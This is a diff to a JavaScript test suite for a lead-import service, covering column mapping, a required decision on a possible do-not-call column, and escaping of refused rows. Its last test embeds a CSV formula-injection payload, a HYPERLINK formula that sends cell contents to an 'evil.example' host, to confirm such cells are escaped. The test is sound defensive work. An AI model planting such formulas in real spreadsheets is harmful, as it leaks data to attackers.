@@ -19,7 +19,7 @@ describe('a file', () => {
       const opened = await files.open(importId)
       expect(opened.body).toMatchObject({
         import: { state: 'mapping' },
-        columns: expect.arrayContaining([{ name: 'Address', examples: ['12 Main St'] }]),
+        columns: expect.arrayContaining([{ name: 'Address', examples: ['12 Main St'], isContact: false }]),
         mapping: { address: { column: 'Address' }, fips: { column: 'FIPS' }, phone1: { column: 'Phone' } },
       })
       const checked = await files.check(importId, opened.body.mapping)
@@ -96,12 +96,16 @@ describe('a file', () => {
 })
 
 describe('a mapping', () => {
-  test('is refused if a needed field is missing', async () => {
-    const importId = await files.send(leadFile(files, [ROW]))
-    const { address: _address, ...rest } = (await files.open(importId)).body.mapping
-    expect(await files.check(importId, { ...rest, city: { column: 'City' } })).toMatchObject({
-      code: 'lead_mapping_invalid',
-      message: expect.stringContaining('Choose the column for “Property address”.'),
+  test('is refused if a needed field is missing, or nobody decided about a column that may forbid calls', async () => {
+    const importId = await files.send(leadFile(files, [ROW]).replace('Phone', 'Litigator'))
+    const { mapping } = (await files.open(importId)).body
+    const { doNotCall: _mark, ...rest } = mapping
+    const answers = [{ ...mapping, address: undefined }, rest].map((tried) => files.check(importId, tried))
+    const messages = (await Promise.all(answers)).map(({ code, message }) => `${code}: ${message}`)
+    expect(messages[0]).toMatch(/^lead_mapping_invalid: Choose the column for “Property address”/)
+    expect(messages[1]).toMatch(/^lead_mapping_invalid: “Litigator” may say who must not be called/)
+    expect(await files.check(importId, { ...rest, setAside: { column: 'Litigator' } })).toMatchObject({
+      state: 'ready',
     })
   })
 
@@ -120,8 +124,8 @@ describe('a mapping', () => {
 
   test('adds a column that is new in the source’s files, and still leaves out what was left out', async () => {
     const text = leadFile(files, [{ address: '1 Grown St' }])
-      .replaceAll('\n', ',x\n')
-      .replace('Phone,x', 'Phone,Email')
+      .replaceAll('\n', ',x@example.com\n')
+      .replace('Phone,x@example.com', 'Phone,Email')
     const first = await files.send(text, 'Grown Records')
     const { email1: _left, ...mapping } = (await files.open(first)).body.mapping
     await files.check(first, mapping)
@@ -136,14 +140,14 @@ describe('hostile cells', () => {
   test('appear escaped in the report of refused rows', async () => {
     const formula = '=HYPERLINK(""http://evil.example/?""&A1,""x"")'
     const checked = await files.bring(
-      `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2\n`,
+      `${leadFile(files, [{ address: '1 Hostile St' }])}"${formula}",Austin,78701,48453,vacant,2099-01-01,@evil,\n+1,2,3,4,5,6,7,8,9,10\n`,
     )
     const report = await files.admin.call('GET', `/api/admin/lead-imports/${checked.id}/refused.csv`)
     expect(checked).toMatchObject({ state: 'ready', refusedRows: 2, preview: { refused: { formula: 1, cells: 1 } } })
     const [header, first, second] = report.body.split('\r\n')
     expect(header).toBe('row,reason,line')
     expect(first).toContain(`3,"This row has a cell that begins like a formula (=, +, - or @).","'=HYPERLINK(`)
-    expect(second).toContain('4,This row has more or fewer cells than the header has columns.')
+    expect(second).toContain('4,This row has more cells than the header has columns.')
     expect(second).toContain("'+1")
     expect(report.headers['content-disposition']).toMatch(/^attachment; filename="refused-rows-lim_\w+\.csv"$/)
   })
